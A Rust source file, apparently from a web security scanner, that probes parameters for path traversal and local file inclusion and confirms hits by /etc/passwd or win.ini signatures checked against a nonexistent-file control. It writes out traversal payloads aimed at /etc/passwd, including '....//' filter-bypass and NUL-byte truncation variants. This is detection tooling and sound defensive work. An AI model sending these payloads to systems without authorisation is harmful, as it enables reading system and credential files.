//! Path traversal and local file inclusion, confirmed by a system file's signature: the answer
//! to a traversal value holds an /etc/passwd line (or win.ini's sections), the original answer
//! does not, and the same value naming a file that does not exist makes it disappear again.
//! A value that already returns such a file (the crawler saw it) is confirmed the same way.

use super::client::Page;
use super::probe::{rand_in, try_send, Target};
use super::State;
use crate::rules;
use rampart_model::{Evidence, Finding};
use rampart_net::NetError;

/// The signature of a system file in `body`.
pub fn file_signature(body: &str) -> Option<&'static str> {
    for s in ["root:x:0:0:", "root:*:0:0:", "root::0:0:"] {
        if body.contains(s) {
            return Some(s);
        }
    }
    (body.contains("[fonts]") && body.contains("[extensions]")).then_some("[fonts]")
}

fn payloads(orig: &str) -> Vec<String> {
    let up = "../".repeat(10);
    let mut v = vec![format!("{up}etc/passwd"), "/etc/passwd".to_string()];
    if let Some((dir, _)) = orig.rsplit_once('/') {
        if !dir.is_empty() && !dir.starts_with('/') {
            v.push(format!("{dir}/{up}etc/passwd"));
        }
    }
    v.push(format!("{}etc/passwd", "....//".repeat(10)));
    // A NUL ends the path in C and in old runtimes, cutting off an appended extension.
    if let Some((_, ext)) = orig.rsplit_once('.') {
        if ext.len() <= 5 && ext.chars().all(|c| c.is_ascii_alphanumeric()) {
            v.push(format!("{up}etc/passwd\0.{ext}"));
        }
    }
    v
}

pub async fn probe(
    state: &State,
    t: &Target<'_>,
    base: &Page,
) -> Result<Option<Finding>, NetError> {
    let absent = format!("rampart-none-{}", rand_in(100000, 999999));
    if let Some(sig) = file_signature(&base.body) {
        // The application's own value already names a system file.
        if !t.orig.contains('/') && !t.orig.contains('\\') {
            return Ok(None);
        }
        let ctrl = match t.orig.rsplit_once('/') {
            Some((dir, _)) => format!("{dir}/{absent}"),
            None => absent.clone(),
        };
        let Some(c) = try_send(state, &t.req(&ctrl)).await? else {
            return Ok(None);
        };
        if file_signature(&c.body).is_some() {
            return Ok(None);
        }
        return Ok(Some(t.finding(
            rules::web_path_traversal::RULE,
            "file named by the value",
            Evidence {
                request: Some(t.req(t.orig).describe()),
                response: Some(base.excerpt_around(sig, 240)),
                notes: vec![
                    "the value the application itself links to already returns a system file".into(),
                    format!(
                        "with {ctrl:?} (a file that does not exist) the signature is gone (HTTP {})",
                        c.status
                    ),
                ],
            },
        )));
    }
    // Values that look like file names get every variant; others the relative one only: ten
    // `../` reach `/` from any directory, so the absolute path adds nothing but a way past a
    // filter of `..`, which is worth a request where the value names a file.
    let file_like = t.orig.contains('.') || t.orig.contains('/');
    for p in payloads(t.orig)
        .into_iter()
        .take(if file_like { 8 } else { 1 })
    {
        let Some(r) = try_send(state, &t.req(&p)).await? else {
            continue;
        };
        let Some(sig) = file_signature(&r.body) else {
            continue;
        };
        let ctrl = p.replace("passwd", &absent);
        let Some(c) = try_send(state, &t.req(&ctrl)).await? else {
            continue;
        };
        if file_signature(&c.body).is_some() {
            continue;
        }
        return Ok(Some(t.finding(
            rules::web_path_traversal::RULE,
            "",
            Evidence {
                request: Some(t.req(&p).describe()),
                response: Some(r.excerpt_around(sig, 240)),
                notes: vec![format!(
                    "the original value's answer has no such line; {ctrl:?} (no such file) has none either (HTTP {})",
                    c.status
                )],
            },
        )));
    }
    Ok(None)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn signatures_and_payloads() {
        assert_eq!(
            file_signature("root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1"),
            Some("root:x:0:0:")
        );
        assert_eq!(file_signature("the root of the matter"), None);
        let p = payloads("docs/readme.txt");
        assert!(p.iter().any(|v| v.starts_with("docs/../")));
        assert!(p.iter().any(|v| v.ends_with("\0.txt")));
    }
}
